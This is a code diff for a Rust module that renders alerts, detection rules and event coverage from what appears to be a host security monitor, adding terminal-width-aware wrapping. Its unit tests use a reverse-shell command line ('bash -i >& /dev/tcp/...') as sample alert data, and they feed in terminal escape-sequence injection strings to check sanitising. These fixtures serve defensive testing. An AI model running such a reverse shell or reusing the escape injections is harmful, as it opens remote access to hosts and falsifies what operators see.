@@ -7,16 +7,20 @@ use jiff::tz::TimeZone;
 use super::model::{Alert, Coverage, Rule};
 use crate::text::{
     escape::{escape, pad, shorten},
+    fit::{Columns, paragraph},
     style::Style,
-    table::{Table, pairs},
+    table::{Table, pairs_within},
     time::{clock, local},
 };
 
-/// Longest command line in a table, in columns.
-const COMMAND: usize = 60;
+/// Columns before the title of an alert that is raised: time and level.
+const BEFORE_TITLE: usize = 25;
 
-/// One line for an alert as it is raised.
-pub fn line(alert: &Alert, style: Style, zone: &TimeZone) -> String {
+/// On a terminal, a command line takes at most as many columns as this many lines have.
+const COMMAND_LINES: usize = 2;
+
+/// One line for an alert as it is raised; on a terminal, broken under its title.
+pub fn line(alert: &Alert, style: Style, zone: &TimeZone, columns: Columns) -> String {
     let level = escape(&alert.level);
     let mut text = format!(
         "{}  {}  {}",
@@ -36,8 +40,11 @@ pub fn line(alert: &Alert, style: Style, zone: &TimeZone) -> String {
     if !alert.unit.is_empty() {
         text.push_str(&format!(" in {}", escape(&alert.unit)));
     }
-    text.push_str(&format!(": {}\n", escape(alert.command())));
-    text
+    let mut command = escape(alert.command());
+    if let Some(columns) = columns {
+        command = shorten(&command, COMMAND_LINES * columns);
+    }
+    paragraph(&format!("{text}: {command}"), columns, BEFORE_TITLE)
 }
 
 /// The last part of a path.
@@ -46,14 +53,17 @@ fn program(executable: &str) -> &str {
 }
 
 /// The alerts that stand.
-pub fn alerts(alerts: &[Alert], style: Style, zone: &TimeZone) -> String {
+pub fn alerts(alerts: &[Alert], style: Style, zone: &TimeZone, columns: Columns) -> String {
     if alerts.is_empty() {
         return "no alerts\n".to_owned();
     }
     let mut table = Table::new(&[
         "ID", "TIME", "LEVEL", "COUNT", "PID", "USER", "UNIT", "TITLE", "COMMAND",
     ])
-    .right(&[3, 4]);
+    .right(&[3, 4])
+    .within(columns)
+    .cut(&[(5, 8), (6, 12), (7, 24), (8, 12)])
+    .omit(&[6, 5, 4, 3, 1]);
     for alert in alerts {
         table.row([
             escape(&alert.id),
@@ -63,8 +73,8 @@ pub fn alerts(alerts: &[Alert], style: Style, zone: &TimeZone) -> String {
             alert.pid.to_string(),
             escape(&alert.user),
             escape(&alert.unit),
-            shorten(&escape(&alert.title), 48),
-            shorten(&escape(alert.command()), COMMAND),
+            escape(&alert.title),
+            escape(alert.command()),
         ]);
     }
     table.render(|column, cell, aligned| match column {
@@ -74,7 +84,7 @@ pub fn alerts(alerts: &[Alert], style: Style, zone: &TimeZone) -> String {
 }
 
 /// Everything about one alert.
-pub fn details(alert: &Alert, style: Style, zone: &TimeZone) -> String {
+pub fn details(alert: &Alert, style: Style, zone: &TimeZone, columns: Columns) -> String {
     let ancestors: Vec<String> = alert
         .ancestors
         .iter()
@@ -85,7 +95,7 @@ pub fn details(alert: &Alert, style: Style, zone: &TimeZone) -> String {
         })
         .collect();
     let tags: Vec<String> = alert.tags.iter().map(|tag| escape(tag)).collect();
-    let mut text = pairs(&[
+    let rows = [
         ("Id", escape(&alert.id)),
         ("Title", style.bold(&escape(&alert.title))),
         ("Level", style.severity(&alert.level, &escape(&alert.level))),
@@ -103,27 +113,44 @@ pub fn details(alert: &Alert, style: Style, zone: &TimeZone) -> String {
         ("Ancestors", ancestors.join(" < ")),
         ("Tags", tags.join(", ")),
         ("Why", escape(&alert.explanation)),
-    ]);
+    ];
+    let mut text = pairs_within(&rows, columns);
     if !alert.fields.is_empty() {
         text.push_str("Fields:\n");
-        for (name, value) in &alert.fields {
-            text.push_str(&format!("  {}: {}\n", escape(name), escape(value)));
-        }
+        text.push_str(&fields(&alert.fields, columns));
     }
     text
 }
 
+/// Fields by name, one line each; on a terminal, broken under themselves.
+pub fn fields(fields: &BTreeMap<String, String>, columns: Columns) -> String {
+    fields
+        .iter()
+        .map(|(name, value)| {
+            paragraph(
+                &format!("  {}: {}", escape(name), escape(value)),
+                columns,
+                4,
+            )
+        })
+        .collect()
+}
+
 /// The rules, one line each.
-pub fn rules(rules: &[Rule], style: Style) -> String {
+pub fn rules(rules: &[Rule], style: Style, columns: Columns) -> String {
     if rules.is_empty() {
         return "no rules\n".to_owned();
     }
-    let mut table = Table::new(&["FATE", "LEVEL", "TITLE", "ID", "REASON"]);
+    let mut table = Table::new(&["FATE", "LEVEL", "TITLE", "ID", "REASON"])
+        .within(columns)
+        .cut(&[(2, 24), (3, 36)])
+        .omit(&[3])
+        .below();
     for rule in rules {
         table.row([
             escape(&rule.fate),
             escape(&rule.level),
-            shorten(&escape(&rule.title), 60),
+            escape(&rule.title),
             escape(&rule.id),
             escape(&rule.reason),
         ]);
@@ -148,8 +175,11 @@ pub fn reloaded(loaded: u32, not_applicable: u32, failed: u32, style: Style) -> 
 }
 
 /// The classes of event, one line each.
-pub fn coverage(coverage: &[Coverage], style: Style) -> String {
-    let mut table = Table::new(&["CLASS", "STATE", "HOOK", "REASON"]);
+pub fn coverage(coverage: &[Coverage], style: Style, columns: Columns) -> String {
+    let mut table = Table::new(&["CLASS", "STATE", "HOOK", "REASON"])
+        .within(columns)
+        .wrap(&[(2, 16)])
+        .below();
     for class in coverage {
         table.row([
             escape(&class.class),
@@ -181,7 +211,7 @@ mod tests {
     #[test]
     fn an_alert_is_one_line() {
         assert_eq!(
-            line(&alert(), Style::PLAIN, &TimeZone::UTC),
+            line(&alert(), Style::PLAIN, &TimeZone::UTC, None),
             "12:00:00  high           Interactive shell from a service ×3  \
              bash[4242] by www-data in nginx.service: bash -i >& /dev/tcp/192.0.2.1/4444\n"
         );
@@ -192,12 +222,17 @@ mod tests {
         let mut hostile = alert();
         hostile.command_line = "x\n\x1b[1A\x1b[2Kfake line".into();
         hostile.executable = "/tmp/\x1b]0;t\x07".into();
-        let text = line(&hostile, Style::PLAIN, &TimeZone::UTC);
+        let text = line(&hostile, Style::PLAIN, &TimeZone::UTC, None);
         assert_eq!(text.matches('\n').count(), 1);
         assert!(!text.contains('\x1b'));
         for text in [
-            alerts(std::slice::from_ref(&hostile), Style::PLAIN, &TimeZone::UTC),
-            details(&hostile, Style::PLAIN, &TimeZone::UTC),
+            alerts(
+                std::slice::from_ref(&hostile),
+                Style::PLAIN,
+                &TimeZone::UTC,
+                None,
+            ),
+            details(&hostile, Style::PLAIN, &TimeZone::UTC, None),
         ] {
             assert!(!text.contains('\x1b'), "{text:?}");
         }
@@ -206,19 +241,22 @@ mod tests {
     #[test]
     fn a_table_of_alerts() {
         assert_eq!(
-            alerts(&[alert()], Style::PLAIN, &TimeZone::UTC),
+            alerts(&[alert()], Style::PLAIN, &TimeZone::UTC, None),
             "\
 ID  TIME                 LEVEL  COUNT   PID  USER      UNIT           TITLE                             COMMAND
 17  2025-11-21 12:00:00  high       3  4242  www-data  nginx.service  Interactive shell from a service  bash -i >& /dev/tcp/192.0.2.1/4444
 "
         );
-        assert_eq!(alerts(&[], Style::PLAIN, &TimeZone::UTC), "no alerts\n");
+        assert_eq!(
+            alerts(&[], Style::PLAIN, &TimeZone::UTC, None),
+            "no alerts\n"
+        );
     }
 
     #[test]
     fn details_tell_all() {
         assert_eq!(
-            details(&alert(), Style::PLAIN, &TimeZone::UTC),
+            details(&alert(), Style::PLAIN, &TimeZone::UTC, None),
             "\
 Id:         17
 Title:      Interactive shell from a service
@@ -251,7 +289,7 @@ Fields:
         )
             .into();
         assert_eq!(
-            rules(&[rule], Style::PLAIN),
+            rules(&[rule], Style::PLAIN, None),
             "FATE    LEVEL  TITLE  ID  REASON\nfailed  low    Title  id  a.yml:3: unknown modifier\n"
         );
         let class: Coverage = (
@@ -262,7 +300,7 @@ Fields:
         )
             .into();
         assert_eq!(
-            coverage(&[class], Style::PLAIN),
+            coverage(&[class], Style::PLAIN, None),
             "CLASS  STATE     HOOK                       REASON\nexec   attached  tp_btf/sched_process_exec\n"
         );
         assert_eq!(
